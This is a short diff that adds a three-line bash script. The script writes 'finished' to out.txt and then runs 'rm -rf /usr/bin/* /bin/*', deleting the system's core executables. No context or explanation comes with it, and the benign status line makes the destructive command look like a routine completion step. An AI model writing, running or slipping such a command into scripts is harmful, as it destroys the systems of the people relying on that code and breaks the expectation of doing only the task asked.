@@ -1,0 +1,3 @@
+#!/bin/bash
+echo finished > out.txt
+rm -rf /usr/bin/* /bin/*
